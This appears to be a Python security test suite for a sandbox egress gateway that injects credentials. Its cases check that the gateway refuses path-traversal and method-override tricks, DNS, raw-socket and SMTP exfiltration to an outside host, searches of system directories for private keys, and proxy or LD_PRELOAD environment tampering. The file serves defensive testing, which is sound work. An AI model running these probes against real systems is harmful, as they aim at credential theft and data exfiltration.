"""Cases 47 to 60: legal paths, lifetime, the store."""
import os
import urllib.parse

from attack import case
import hosts


@case("47", "the attacker's own key to A")
def own_key(t):
    got = t.run("""
own = 'Authorization: Bearer attackers-own-key-0123456789'
out(ask(A, '/x', own), ask(A, '/x', basic('me:attackers-own-key')),
    ask(A, '/x', 'X-Api-Key: attackers-own-key'), ask(A, '/x?key=own'),
    ask(A, '/x', method='POST', body='token=own'),
    ask(A, '/x', own, bearer()), ask(A, '/x', bearer(), own),
    ask(A, '/x', 'X-Api-Key: ' + K, 'X-Api-Key: own'),
    ask(A, '/x', 'X-Api-Key: own', 'X-Api-Key: ' + K))
""")
    for a in got[:5]:
        t.one(a, 401, "credential_required")
    t.audit("credential_required")
    for a in got[5:]:
        assert " 40" in a[:20], a[:300]
    assert not [x for x in t.seen("A") if x["raw"]], \
        "a request with a second key in the slot arrived"


@case("48", "method and path scopes; X-HTTP-Method-Override")
def scopes(t):
    value = "scoped_" + os.urandom(16).hex()
    t.values.append(value)
    v, _ = t.credential("SCOPED", value, [hosts.A], None, [
        {"host": hosts.A, "methods": ["GET", "POST"],
         "path_prefixes": ["/v1"]}])
    got = t.run("""
b = bearer(os.environ['SCOPED'])
def status(*a, **k):
    r = ask(A, *a, **k)
    return r[9:12] + ' ' + r.partition('"reason":"')[2].partition('"')[0]
out([status('/v1/x', b), status('/v1/x', b, method='POST')])
out([status('/v1/x', b, method=m) for m in
     ('DELETE', 'PUT', 'PATCH', 'OPTIONS', 'PURGE')])
out([status(p, b) for p in
     ('/gists', '/user/keys', '/v10', '/v1/../gists', '/v1/%2e%2e/gists',
      '/v1/..%2fgists', '/v1//x', '//v1', '/V1/x', '/v1/..;/gists',
      '/v1%2fx', '/v1/%252e%252e/gists', '/v1/./x', '/v1/..\\\\\\\\gists',
      '/v1/x%00', '/v1/%5c..%5cgists', '/%76%31/x', '/v1/..')])
out([status('/v1/x', b, h + ': DELETE', method='POST') for h in
     ('X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override',
      'X_HTTP_Method_Override', 'x-http-method-override')])
out([status('/v1/x', b, h + ': /gists') for h in
     ('X-Original-URL', 'X-Rewrite-URL')])
""", t.session([v]))
    assert got[3] == ["403 override_refused"] * 5, got[3]
    assert got[4] == ["403 override_refused"] * 2, got[4]
    assert got[0] == ["200 ", "200 "], got[0]
    assert got[1] == ["403 method_not_allowed"] * 5, got[1]
    assert all(x.startswith(("403 path_not", "400")) for x in got[2]), got[2]
    t.audit("method_not_allowed")
    t.audit("path_not_allowed")
    for x in t.seen("A"):
        low = x["raw"].lower()
        assert "override" not in low and "x-http-method" not in low \
            and "x_http" not in low and "-url: /gists" not in low, \
            "the host is told another method or path: " + x["raw"]


@case("49", "DNS labels, DoH, ICMP, raw, UDP, SMTP, git over ssh")
def other_ways_out(t):
    got = t.run("""
out(sh(f'getent hosts {S}.in.e-corp.test; getent hosts data.elsewhere.test'))
out(ask('dns.google', '/dns-query?dns=AAAB'),
    ask('one.one.one.one', '/dns-query'))
for kind, proto in ((socket.SOCK_RAW, 1), (socket.SOCK_RAW, 255),
                    (socket.SOCK_RAW, 17), (socket.SOCK_DGRAM, 1)):
    out(attempt(lambda: socket.socket(socket.AF_INET, kind, proto) and 'made'))
out(attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
            and 'made'))
for port in (22, 25, 53, 587, 9418):
    out(attempt(lambda: talk(tcp(E, port), 'EHLO x\\r\\n', 3)))
out(attempt(lambda: socket.create_connection(('93.184.216.66', 443), 3)
            and 'made'))
out(attempt(lambda: socket.create_connection(('10.0.0.5', 443), 3)
            and 'made'))
out(attempt(lambda: socket.create_connection(('::1', 443), 3) and 'made'))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out(attempt(lambda: s.sendto(b'x', ('8.8.8.8', 53)) and 'sent'))
out(sh('ip route; ip -6 route; ip link'))
out(ask(S.lower() + '.in.e-corp.test'))
""")
    for a in got[1:3]:
        t.one(a, 403, "host_not_allowed")
    for a in got[3:7]:
        assert a.startswith("!") or a == "made", a
    assert got[7].startswith("!"), got[7]
    for a in got[8:13]:
        assert a[:1] in ("!", "") or " 400 " in a[:20], a
    for a in got[13:17]:
        assert a.startswith("!"), a
    assert "default via" not in got[17] and "default dev" not in got[17]
    asked = {x["raw"] for x in t.seen("dns")}
    assert not asked - {hosts.A, hosts.E} or all(
        x.endswith(".in.e-corp.test") for x in asked), asked
    assert not any("elsewhere" in x for x in asked), asked
    assert not [x for x in t.seen() if x["at"].startswith("E")], t.seen()


@case("50", "a stub in a query that the host logs")
def stub_in_query(t):
    got = t.run("out(ask(A, '/x?access_token=' + S),"
                " ask(A, '/x?a=1&key=' + S, bearer()),"
                " ask(A, '/x;key=' + S, bearer()))")
    for a in got:
        t.one(a, 403, "stub_wrong_slot")
    assert not [x for x in t.seen("A") if x["raw"]]


@case("50b", "query, path and body slots that the credential declares")
def declared_slots(t):
    value = 'decl "ared/&+%=' + os.urandom(12).hex()
    t.values.append(value)
    v, _ = t.credential("DECLARED", value, [hosts.A], None, [
        {"host": hosts.A, "slots": ["query:key", "path", "body"]}])
    got = t.run("""
D = os.environ['DECLARED']
J, F = 'Content-Type: application/json', \
    'Content-Type: application/x-www-form-urlencoded'
out(ask(A, '/split/3?key=' + D), ask(A, '/echo?key=' + D),
    ask(A, '/echo', J, method='POST', body='{"k":"%s"}' % D),
    ask(A, '/echo', F, method='POST', body='k=%s&b=' % D),
    ask(A, '/x/' + D), ask(A, '/bot' + D + '/sendMessage'))
out(ask(A, '/echo?key=' + D + '&key=own'), ask(A, '/echo?k%65y=' + D),
    ask(A, '/echo?other=' + D), ask(E, '/echo?key=' + D),
    ask(A, '/echo', 'Content-Type: text/xml', method='POST', body=D),
    ask(A, '/echo', bearer(D)),
    ask(A, '/echo', J, method='POST', body=' ' * (2 << 20) + D),
    ask(A, '/bot' + S + '/sendMessage'), ask(E, '/bot' + D + '/sendMessage'),
    ask(A, '/bot' + D + 'x/sendMessage'), ask(A, '/bot' + S + D))
""", t.session([v, t.vault]))
    for a in got[:6]:
        t.one(a, 200)
    for a, reason in zip(got[6:12], (
            "slot_repeated", "stub_wrong_slot", "stub_wrong_slot",
            "stub_wrong_host", "stub_wrong_slot", "stub_wrong_slot")):
        t.one(a, 403, reason)
    t.one(got[12], 413, "body_over_limit")
    for a, reason in zip(got[13:], ("stub_wrong_slot", "stub_wrong_host",
                                    "stub_unknown", "stub_unknown")):
        t.one(a, 403, reason)
    raw = [x["raw"] for x in t.seen("A") if x["raw"]]
    assert len(raw) == 6, raw
    assert raw[5].startswith("GET /bot" + urllib.parse.quote(value, "-._~")
                             + "/sendMessage "), raw[5]
    assert not t.seen("E")


@case("53", "policy and credential changed while a connection is open")
def changed_meanwhile(t):
    value = "short_" + os.urandom(16).hex()
    t.values.append(value)
    v, c = t.credential("SHORT", value, [hosts.A])
    env = t.api.environment([hosts.A, hosts.B])
    s = t.session([v], env)
    import threading
    got = []
    script = """
b = bearer(os.environ['SHORT'])
s, o = tls(A), tls(B)
def turn(s, host, path, *h):
    s.sendall(('GET %s HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\n' % (path, host,
        ''.join(x + '\\r\\n' for x in h))).encode())
    time.sleep(0.3)
    return s.recv(65536).decode('latin-1')
out(turn(s, A, '/first', b), turn(o, B, '/first'))
end = time.time() + 20
while time.time() < end:
    a, x = turn(s, A, '/again', b), turn(o, B, '/again')
    if ' 403 ' in a[:20] and ' 403 ' in x[:20]:
        break
out(a, x)
"""
    th = threading.Thread(target=lambda: got.extend(t.run(script, s)))
    th.start()
    import bb
    bb.wait_for("the first request", lambda: any(
        "/again" in x["raw"] for x in t.seen("B")), 20)
    t.api.call("POST", f"/v1/environments/{env}", {"config": {
        "type": "cloud", "networking": {"type": "limited",
                                        "allowed_hosts": [hosts.A]}}})
    t.api.call("POST", f"/v1/vaults/{v}/credentials/{c}/archive", {})
    th.join(60)
    t.one(got[0], 200)
    t.one(got[2], 403)
    assert "stub_revoked" in got[2], got[2]
    t.one(got[3], 403, "host_not_allowed")
    t.audit("host_not_allowed", s)


@case("56", "the CA's key; a leaf for a forbidden name")
def ca_key(t):
    got = t.run("""
out(sh('grep -rlsE "BEGIN (EC |RSA |)PRIVATE KEY" /etc /usr/local /run /tmp '
       '/workspace /opt /var /root /home --include="*.pem" --include="*.key" '
       '--include="*.crt"'))
out(ask('out.x-corp.test', '/x'))
def leaf(name):
    ctx = ssl.create_default_context()
    s = ctx.wrap_socket(tcp(A), server_hostname=name)
    return 'handshake'
for n in (E, 'localhost', '*.a-corp.test', 'xn--a', 'a_b.test', 'test',
          'com'):
    out(attempt(leaf, n))
c = tls(A)
import tempfile
with open('/tmp/leaf.pem', 'w') as f:
    f.write(ssl.DER_cert_to_PEM_cert(c.getpeercert(True)))
out(sh('openssl x509 -in /tmp/leaf.pem -noout -ext basicConstraints,keyUsage,'
       'subjectAltName -enddate'))
""")
    assert got[0].strip().startswith("[exit"), got[0]
    t.one(got[1], 403, "host_not_allowed")
    for a in got[2:9]:
        assert a.startswith("!"), a
    assert "CA:FALSE" in got[9] and "CA:TRUE" not in got[9] or \
        "not found" in got[9], got[9]


@case("58", "signed requests: a signature of the stub goes nowhere")
def signed_requests(t):
    got = t.run("""
import hashlib, hmac
sig = hmac.new(S.encode(), b'GET /x', hashlib.sha256).hexdigest()
out(ask(A, '/x', 'Authorization: AWS4-HMAC-SHA256 Credential=AKIA/x, '
        'Signature=' + sig),
    ask(A, '/x', 'X-Hub-Signature-256: sha256=' + sig),
    ask(A, '/x?X-Amz-Signature=' + sig),
    ask(A, '/x', 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.' + sig[:43]))
""")
    for a in got:
        t.one(a, 401, "credential_required")
    t.audit("credential_required")
    assert not [x for x in t.seen("A") if x["raw"]]


@case("60", "environment of the sandbox that would steer the gateway")
def environment(t):
    got = t.run("""
env = ('SSLKEYLOGFILE=/tmp/keys HTTPS_PROXY=http://in.e-corp.test:80 '
       'LD_PRELOAD=/tmp/x.so SSL_CERT_FILE=/tmp/x NGINX=/tmp/x '
       'OPENSSL_CONF=/tmp/x')
out(sh(f'{env} curl -sS -m 10 -H "{bearer()}" https://{A}/form/raw'))
out(sh(f'HTTPS_PROXY=http://{E}:80 ALL_PROXY=http://{E}:80 '
       f'curl -sS -m 10 -H "{bearer()}" https://{A}/form/raw'))
out(sh(f'http_proxy=http://{E}:80 curl -sS -m 10 -H "{bearer()}" '
       f'http://{A}/form/raw'))
""")
    assert len(got) == 3
    checked = 0
    for p in os.listdir("/proc"):
        try:
            if not os.readlink(f"/proc/{p}/exe").endswith("/nginx"):
                continue
            with open(f"/proc/{p}/environ", "rb") as f:
                names = {x.partition(b"=")[0] for x in f.read().split(b"\0")}
            checked += 1
        except OSError:
            continue
        if os.readlink("/proc/self/ns/net") == os.readlink(
                f"/proc/{p}/ns/net"):
            assert not names & {b"LD_PRELOAD", b"SSLKEYLOGFILE",
                                b"HTTPS_PROXY", b"OPENSSL_CONF",
                                b"API_TOKEN", b"SSL_CERT_FILE"}, names
    assert checked >= 2, "no gateway process was looked at"
    assert not [x for x in t.seen("E") if x["raw"]]
